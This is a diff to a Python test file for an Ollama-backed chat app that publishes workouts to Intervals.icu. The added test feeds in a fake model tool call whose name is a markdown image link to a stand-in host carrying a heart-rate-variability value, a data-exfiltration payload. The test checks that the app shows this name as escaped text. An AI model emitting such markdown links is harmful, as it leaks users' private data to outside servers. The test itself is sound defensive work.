@@ -377,7 +377,7 @@ def test_a_failed_publish_shows_the_error_and_retry_publishes_once(
     assert success.value.startswith("Confirmed: on your Intervals.icu calendar")
     assert proposal_statuses(data_dir) == ["published"]
     [posted] = account.writes
-    assert posted.method == "POST" and posted.path == "/api/v1/athlete/0/events"
+    assert posted.method == "POST" and posted.path == "/api/v1/athlete/i123456/events"
     assert posted.body["description"] == WORKOUT_TEXT
     assert buttons(at, "Retry") == []
 
@@ -481,3 +481,22 @@ def test_a_500_message_conversation_still_renders(ollama: FakeOllama, data_dir: 
     assert_no_failure(at)
     assert len(at.chat_message) == 500
     assert values(at.chat_message[-1].markdown) == ["answer 249"]
+
+
+def test_a_tool_name_written_as_markdown_is_shown_as_text(monkeypatch, data_dir: Path):
+    from tests.fakes.ollama_server import Reply
+
+    leak = "![x](http://198.51.100.7/leak?hrv=38)"
+
+    def script(body):
+        if body["messages"][-1]["role"] == "user":
+            return Reply(tool_calls=[{"name": leak, "arguments": {}}])
+        return Reply(content="ok")
+
+    with FakeOllama(script=script) as fake:
+        monkeypatch.setenv("OLLAMA_HOST", fake.url)
+        at = ask(open_page(), "hello")
+    labels = [s.label for s in at.status]
+    assert labels and all("![" not in label for label in labels)
+    assert "leak" in " ".join(labels)                    # shown, as escaped text
+    assert all("![" not in m for m in values(at.markdown))
